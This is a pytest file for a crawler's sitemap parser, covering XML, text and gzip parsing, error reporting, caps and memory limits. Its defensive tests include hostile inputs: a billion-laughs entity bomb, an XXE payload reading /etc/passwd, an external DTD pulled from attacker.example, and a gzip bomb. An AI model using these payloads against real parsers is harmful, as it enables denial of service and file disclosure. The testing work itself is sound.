"""The sitemap parser as a specification: each case is fed whole, byte by byte and in 7-byte pieces."""

from __future__ import annotations

import gzip
import tracemalloc

import pytest

from crawl.sitemap_parser import (
    MAX_LOC_CHARS,
    MAX_SITEMAP_BYTES,
    ParseError,
    SitemapDocument,
    SitemapEntry,
    SitemapKind,
    SitemapParser,
    SitemapUsageError,
)
from tests.crawl.sitemap_helpers import gzip_bomb, index, parse_every_way, urlset

A, B = "https://example.com/a", "https://example.com/b"


@pytest.mark.parametrize(
    ("body", "kind", "locs"),
    [
        pytest.param(urlset(A, B), SitemapKind.URLSET, [A, B], id="urlset"),
        pytest.param(index(A, B), SitemapKind.INDEX, [A, B], id="index"),
        pytest.param(urlset(A, ns=""), SitemapKind.URLSET, [A], id="no-namespace"),
        pytest.param(
            b'<sm:urlset xmlns:sm="http://www.sitemaps.org/schemas/sitemap/0.9">'
            b"<sm:url><sm:loc>https://example.com/a</sm:loc></sm:url></sm:urlset>",
            SitemapKind.URLSET,
            [A],
            id="prefixed-namespace",
        ),
        pytest.param(
            b'<urlset xmlns="urn:someone-else"><url><loc>https://example.com/a</loc></url></urlset>',
            SitemapKind.URLSET,
            [A],
            id="any-namespace",
        ),
        pytest.param(
            b"<urlset><url><loc><![CDATA[https://example.com/a?x=1&y=2]]></loc></url></urlset>",
            SitemapKind.URLSET,
            [A + "?x=1&y=2"],
            id="cdata",
        ),
        pytest.param(
            b"<urlset><url><loc>https://example.com/a?x=1&amp;y=&#50;</loc></url></urlset>",
            SitemapKind.URLSET,
            [A + "?x=1&y=2"],
            id="entities",
        ),
        pytest.param(
            b"<urlset>\n  <url>\n    <loc>\n\t https://example.com/a \r\n</loc>\n  </url>\n</urlset>\n",
            SitemapKind.URLSET,
            [A],
            id="whitespace-around-loc",
        ),
        pytest.param(b"\xef\xbb\xbf" + urlset(A), SitemapKind.URLSET, [A], id="utf8-bom"),
        pytest.param(b"\n\n  " + urlset(A), SitemapKind.URLSET, [A], id="leading-whitespace"),
        pytest.param(
            '<?xml version="1.0" encoding="UTF-16"?><urlset><url><loc>https://example.com/ä</loc></url></urlset>'.encode(
                "utf-16"
            ),
            SitemapKind.URLSET,
            ["https://example.com/ä"],
            id="utf16-bom",
        ),
        pytest.param(
            '<?xml version="1.0" encoding="ISO-8859-1"?><urlset><url><loc>https://example.com/ä</loc></url></urlset>'.encode(
                "latin-1"
            ),
            SitemapKind.URLSET,
            ["https://example.com/ä"],
            id="declared-latin1",
        ),
        pytest.param(gzip.compress(urlset(A, B)), SitemapKind.URLSET, [A, B], id="gzip"),
        pytest.param(
            gzip.compress(f"{A}\n{B}\n".encode()), SitemapKind.TEXT, [A, B], id="gzip-text"
        ),
        pytest.param(f"{A}\r\n\r\n{B}".encode(), SitemapKind.TEXT, [A, B], id="text"),
        pytest.param(f"\ufeff{A}\n".encode(), SitemapKind.TEXT, [A], id="text-bom"),
        pytest.param(
            b"<urlset><url><loc>https://example.com/a</loc>"
            b'<image:image xmlns:image="urn:i"><image:loc>https://example.com/a.png</image:loc></image:image>'
            b"</url></urlset>",
            SitemapKind.URLSET,
            [A],
            id="extension-locs-ignored",
        ),
        pytest.param(
            b"<urlset><loc>https://example.com/stray</loc><url><x><loc>https://example.com/deep</loc></x>"
            b"<loc>https://example.com/a</loc><loc>https://example.com/second</loc></url></urlset>",
            SitemapKind.URLSET,
            [A],
            id="only-first-direct-loc-of-url",
        ),
        pytest.param(
            b"<sitemapindex><url><loc>https://example.com/b</loc></url>"
            b"<sitemap><loc>https://example.com/a</loc></sitemap></sitemapindex>",
            SitemapKind.INDEX,
            [A],
            id="index-reads-only-sitemap-items",
        ),
        pytest.param(b"<!-- hi --><?pi x?><urlset/>", SitemapKind.URLSET, [], id="empty-urlset"),
    ],
)
def test_parsing(body: bytes, kind: SitemapKind, locs: list[str]) -> None:
    doc = parse_every_way(body)
    assert (doc.kind, [e.loc for e in doc.entries], doc.error) == (kind, locs, None)
    assert doc.url_count == len(locs) and not doc.oversized


def test_lastmod_is_kept_per_entry() -> None:
    body = (
        b"<urlset><url><lastmod> 2024-05-01T10:00:00+00:00 </lastmod><loc>https://example.com/a</loc></url>"
        b"<url><loc>https://example.com/b</loc></url></urlset>"
    )
    assert parse_every_way(body).entries == (
        SitemapEntry(A, "2024-05-01T10:00:00+00:00"),
        SitemapEntry(B, None),
    )


@pytest.mark.parametrize(
    ("body", "error", "kind", "locs"),
    [
        pytest.param(b"", ParseError.EMPTY, SitemapKind.UNKNOWN, [], id="empty"),
        pytest.param(b" \r\n\t ", ParseError.EMPTY, SitemapKind.UNKNOWN, [], id="whitespace-only"),
        pytest.param(b"\xef\xbb\xbf", ParseError.EMPTY, SitemapKind.UNKNOWN, [], id="bom-only"),
        pytest.param(
            urlset(A, B)[:-12],
            ParseError.MALFORMED_XML,
            SitemapKind.URLSET,
            [A],
            id="truncated-keeps-prefix",
        ),
        pytest.param(
            b"<urlset><url><loc>https://example.com/a</loc></url><url><loc>x</lo></url></urlset>",
            ParseError.MALFORMED_XML,
            SitemapKind.URLSET,
            [A],
            id="mismatched-tag",
        ),
        pytest.param(
            b"<urlset><url><loc>https://example.com/a?x&y</loc></url></urlset>",
            ParseError.MALFORMED_XML,
            SitemapKind.URLSET,
            [],
            id="bare-ampersand",
        ),
        pytest.param(
            urlset(A) + b"<urlset/>",
            ParseError.MALFORMED_XML,
            SitemapKind.URLSET,
            [A],
            id="junk-after-root",
        ),
        pytest.param(
            b"<!DOCTYPE html><html><body>Not found</body></html>",
            ParseError.NOT_A_SITEMAP,
            SitemapKind.UNKNOWN,
            [],
            id="html-soft-404",
        ),
        pytest.param(
            b"<html><a href='https://example.com/a'>x</a></html>",
            ParseError.NOT_A_SITEMAP,
            SitemapKind.UNKNOWN,
            [],
            id="html-without-doctype",
        ),
        pytest.param(
            b"Not Found\n" + A.encode(),
            ParseError.NOT_A_SITEMAP,
            SitemapKind.UNKNOWN,
            [],
            id="text-not-urls",
        ),
        pytest.param(
            b"\x1f\x8b\x08\x00garbage-after-gzip-header",
            ParseError.BAD_GZIP,
            SitemapKind.UNKNOWN,
            [],
            id="bad-gzip",
        ),
        pytest.param(
            gzip.compress(urlset(A, B))[:-30],
            ParseError.BAD_GZIP,
            SitemapKind.UNKNOWN,
            [],
            id="truncated-gzip",
        ),
    ],
)
def test_format_errors_are_reported_not_raised(
    body: bytes, error: ParseError, kind: SitemapKind, locs: list[str]
) -> None:
    doc = parse_every_way(body)
    assert (doc.error, doc.kind, [e.loc for e in doc.entries]) == (error, kind, locs)
    assert doc.error_detail


def test_malformed_xml_says_where() -> None:
    doc = parse_every_way(b"<urlset>\n<url><loc>x</lo></url></urlset>")
    assert doc.error_detail == "mismatched tag (line 2, column 14)"


@pytest.mark.parametrize(
    ("body", "locs", "invalid"),
    [
        pytest.param(
            b"<urlset><url><loc>  </loc></url><url/><url><loc>https://example.com/a</loc></url></urlset>",
            [A],
            2,
            id="xml-empty-and-missing-locs",
        ),
        pytest.param(
            b"<urlset><url><loc>https://example.com/"
            + b"x" * MAX_LOC_CHARS
            + b"</loc></url></urlset>",
            [],
            1,
            id="xml-overlong-loc",
        ),
        pytest.param(f"{A}\nnot a url\n/relative\n{B}\n".encode(), [A, B], 2, id="text-bad-lines"),
        pytest.param(
            f"{A}\nhttps://example.com/{'x' * 40_000}\n{B}".encode(),
            [A, B],
            1,
            id="text-overlong-line",
        ),
    ],
)
def test_invalid_entries_are_counted_and_skipped(
    body: bytes, locs: list[str], invalid: int
) -> None:
    doc = parse_every_way(body)
    assert ([e.loc for e in doc.entries], doc.invalid_entries, doc.error) == (locs, invalid, None)


def test_url_cap_keeps_the_first_entries_and_counts_all() -> None:
    locs = [f"https://example.com/{i}" for i in range(7)]
    doc = parse_every_way(urlset(*locs), max_urls=3)
    assert [e.loc for e in doc.entries] == locs[:3]
    assert doc.url_count == 7 and doc.truncated


def test_at_the_url_cap_is_not_truncated() -> None:
    doc = parse_every_way(urlset(A, B), max_urls=2)
    assert doc.url_count == 2 and not doc.truncated


@pytest.mark.parametrize("compress", [False, True], ids=["plain", "gzip"])
def test_byte_cap_counts_decoded_bytes_and_skips_the_document_whole(compress: bool) -> None:
    body = urlset(*(f"https://example.com/{i}" for i in range(100)))
    wire = gzip.compress(body) if compress else body
    exactly = parse_every_way(wire, max_bytes=len(body))
    over = parse_every_way(wire, max_bytes=len(body) - 1)
    assert exactly.url_count == 100 and not exactly.oversized
    assert over == SitemapDocument(SitemapKind.UNKNOWN, (), 0, 0, len(body), compress, True)


def test_oversized_beats_a_format_error() -> None:
    doc = parse_every_way(b"<html>" + b" " * 100, max_bytes=50)
    assert doc.oversized and doc.error is None


def test_needs_more_turns_false_at_the_cap() -> None:
    parser = SitemapParser(max_bytes=10)
    parser.feed(b"<urlset>")
    assert parser.needs_more
    parser.feed(b"<url></url>")
    assert not parser.needs_more
    parser.feed(b"ignored")
    assert parser.close().oversized


def test_needs_more_turns_false_after_the_gzip_stream_ends() -> None:
    parser = SitemapParser()
    parser.feed(gzip.compress(urlset(A)))
    assert not parser.needs_more
    parser.feed(b"trailing bytes are ignored")
    assert [e.loc for e in parser.close().entries] == [A]


def test_gzip_bomb_stops_at_the_cap_with_bounded_memory() -> None:
    chunks = gzip_bomb(gib=1)
    parser = SitemapParser()
    consumed = 0
    tracemalloc.start()
    try:
        for chunk in chunks:
            consumed += 1
            parser.feed(chunk)
            if not parser.needs_more:
                break
        doc = parser.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert doc.oversized and doc.gzipped and doc.size == MAX_SITEMAP_BYTES + 1
    assert consumed <= 11  # ~1 MiB decoded per compressed chunk; the cap is 10 MiB
    assert peak < 4 * MAX_SITEMAP_BYTES
    assert next(chunks, None) is not None  # the rest of the gigabyte was never touched


def test_one_small_gzip_chunk_never_inflates_past_the_cap() -> None:
    bomb = gzip_bomb(gib=1)
    hundred_mib = b"".join(next(bomb) for _ in range(100))  # ~100 KiB on the wire
    parser = SitemapParser()
    tracemalloc.start()
    try:
        parser.feed(hundred_mib)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert parser.close().oversized
    assert peak < 4 * MAX_SITEMAP_BYTES


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<urlset><url><loc>https://example.com/&lol9;</loc></url></urlset>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<urlset><url><loc>https://example.com/&xxe;</loc></url></urlset>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE urlset SYSTEM "https://attacker.example/evil.dtd">
<urlset><url><loc>https://example.com/a</loc></url></urlset>"""


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER], ids=["billion-laughs", "xxe", "external-dtd"]
)
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    doc = parse_every_way(body)
    assert (doc.error, doc.entries, doc.kind) == (ParseError.DTD_REFUSED, (), SitemapKind.UNKNOWN)


def test_undeclared_entities_are_malformed_not_expanded() -> None:
    doc = parse_every_way(b"<urlset><url><loc>https://example.com/&xxe;</loc></url></urlset>")
    assert doc.error is ParseError.MALFORMED_XML and doc.entries == ()


def test_feeding_after_close_is_a_usage_error() -> None:
    parser = SitemapParser()
    parser.close()
    with pytest.raises(SitemapUsageError):
        parser.feed(b"<urlset/>")
    with pytest.raises(SitemapUsageError):
        parser.close()


def test_document_round_trips_through_a_dict() -> None:
    for doc in (
        parse_every_way(
            b"<urlset><url><loc>https://example.com/a</loc><lastmod>2024</lastmod></url><url>"
        ),
        parse_every_way(gzip.compress(urlset(A)), max_bytes=10),
    ):
        assert SitemapDocument.from_dict(doc.to_dict()) == doc


def test_the_public_surface_is_exactly_what_the_modules_export() -> None:
    from crawl import sitemap_parser, sitemap_walk, sitemaps

    sources = {name: module for module in (sitemap_parser, sitemap_walk) for name in module.__all__}
    assert sorted(sitemaps.__all__) == sorted(sources)
    assert all(getattr(sitemaps, name) is getattr(sources[name], name) for name in sources)
